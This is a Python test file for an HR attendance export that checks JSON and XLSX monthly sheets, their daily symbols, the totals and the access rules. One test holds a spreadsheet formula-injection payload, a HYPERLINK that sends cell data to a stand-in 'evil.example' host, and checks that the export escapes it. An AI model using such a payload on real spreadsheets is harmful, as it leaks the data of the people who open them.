"""HR's monthly sheet per department: JSON and XLSX, one row a person, one column a day, the usual symbols."""

import io
from datetime import date

from openpyxl import load_workbook

from tests.attendance.support import MONTH, full_day, local, make_world, terminal_punch
from tests.factories import logged_in
from window_staff.attendance import views
from window_staff.attendance.schemas import LeaveDecisionIn, LeaveIn, MonthTotalsOut, SheetOut, SheetRowOut
from window_staff.attendance.service import leave as service_leave


async def _month_of_two(ctx):
    world = await make_world(ctx, n_staff=2)
    a, b = world.staff[0].id, world.staff[1].id
    await full_day(ctx, a, 3, site_id=world.site_id)
    await full_day(ctx, a, 4, site_id=world.site_id, am_in=(8, 50))  # late 20 minutes in the morning
    await terminal_punch(ctx, a, local(5, 8, 20), site_id=world.site_id)  # am: no sign-out; pm: absent
    leave = await service_leave.request_leave(ctx, b, LeaveIn(kind="leave", start=local(3, 8, 0), end=local(3, 18, 0)), actor="test")
    await service_leave.decide_leave(ctx, leave.id, LeaveDecisionIn(approved=True), actor="hr", decider_staff_id=None)
    trip = await service_leave.request_leave(
        ctx, b, LeaveIn(kind="official_business", start=local(4, 8, 0), end=local(4, 12, 30)), actor="test"
    )
    await service_leave.decide_leave(ctx, trip.id, LeaveDecisionIn(approved=True), actor="hr", decider_staff_id=None)
    return world


async def test_the_json_sheet_has_a_symbol_per_day(client, app_ctx):
    world = await _month_of_two(app_ctx)
    _, hr = await logged_in(client, app_ctx, "hr")
    r = await client.get(f"/api/v1/attendance/sheet?department_id={world.window.department_id}&month={MONTH}", headers=hr)
    assert r.status_code == 200, r.text
    sheet = r.json()
    assert len(sheet["days"]) == 31 and len(sheet["rows"]) == 2
    a, b = sheet["rows"]
    assert a["days"][0] == "" and a["days"][2] == "√" and a["days"][3] == "迟/√" and a["days"][4] == "缺/旷"
    assert b["days"][2] == "假" and b["days"][3] == "公/旷"
    assert a["totals"]["late_minutes"] == 20
    _, staff = await logged_in(client, app_ctx, "staff", staff_id=world.staff[0].id)
    assert (
        await client.get(f"/api/v1/attendance/sheet?department_id={world.window.department_id}&month={MONTH}", headers=staff)
    ).status_code == 403


async def test_the_xlsx_has_one_row_per_person_and_the_right_symbols(client, app_ctx):
    world = await _month_of_two(app_ctx)
    _, hr = await logged_in(client, app_ctx, "hr")
    r = await client.get(f"/api/v1/attendance/sheet.xlsx?department_id={world.window.department_id}&month={MONTH}", headers=hr)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    ws = load_workbook(io.BytesIO(r.content)).active
    header = [c.value for c in ws[1]]
    assert header[:3] == ["工号", "姓名", "1"] and header[2 + 30] == "31"
    assert header[33:] == [
        "出勤(次)",
        "迟到(次)",
        "迟到(分)",
        "早退(次)",
        "早退(分)",
        "旷工(半天)",
        "缺卡(次)",
        "请假(半天)",
        "公出(半天)",
        "培训(半天)",
    ]
    people = [row for row in ws.iter_rows(min_row=2, values_only=True) if row and row[0] and str(row[0]).startswith("E")]
    assert [p[0] for p in people] == sorted([world.staff[0].employee_no, world.staff[1].employee_no])
    a, b = people
    col = {day: 1 + day for day in range(1, 32)}  # day N is column N+2, 0-based N+1
    assert a[col[1]] in (None, "") and a[col[3]] == "√" and a[col[4]] == "迟/√" and a[col[5]] == "缺/旷"
    assert a[col[6]] == "旷"
    assert b[col[3]] == "假" and b[col[4]] == "公/旷"
    totals = dict(zip(header[33:], a[33:], strict=True))
    assert totals["出勤(次)"] == 3 and totals["迟到(次)"] == 1 and totals["迟到(分)"] == 20 and totals["缺卡(次)"] == 1
    b_totals = dict(zip(header[33:], b[33:], strict=True))
    assert b_totals["请假(半天)"] == 2 and b_totals["公出(半天)"] == 1


def test_a_formula_in_a_name_is_written_as_text_not_run() -> None:
    totals = MonthTotalsOut(
        sessions=0, present=0, late_count=0, late_minutes=0, early_count=0, early_minutes=0, absent_half_days=0,
        missing_sign_in=0, missing_sign_out=0, leave_half_days=0, leave_by_kind={},
    )  # fmt: skip
    row = SheetRowOut(staff_id=1, employee_no="+E1", name='=HYPERLINK("http://evil.example/?d="&A1,"x")', days=["√"], totals=totals)
    sheet = SheetOut(department_id=1, month="2025-03", days=[date(2025, 3, 1)], legend={"√": "出勤"}, rows=[row])
    ws = load_workbook(io.BytesIO(views.sheet_xlsx(sheet))).active
    no, name = ws.cell(row=2, column=1), ws.cell(row=2, column=2)
    assert (no.value, no.data_type) == ("'+E1", "s")
    assert (name.value, name.data_type) == ("'" + row.name, "s")
    assert ws.cell(row=2, column=3).value == "√" and ws.cell(row=2, column=4).value == 0
